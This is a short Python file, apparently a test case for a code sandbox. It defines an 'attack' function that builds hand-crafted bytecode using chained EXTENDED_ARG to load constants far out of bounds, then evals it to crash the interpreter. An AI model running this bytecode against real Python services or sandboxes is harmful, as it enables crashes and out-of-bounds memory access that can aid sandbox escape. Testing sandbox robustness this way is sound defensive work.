"""Run hand-made bytecode that indexes far outside its tables.

Evidence: died
Sandbox: error, crashed, memory, timeout
"""

import opcode


def attack(target):
    extended, load = opcode.opmap["EXTENDED_ARG"], opcode.opmap["LOAD_CONST"]
    wild = bytes([extended, 0x7F, extended, 0xFF, extended, 0xFF, load, 0xF0])
    code = (lambda: None).__code__.replace(co_code=wild * 4)
    return eval(code)
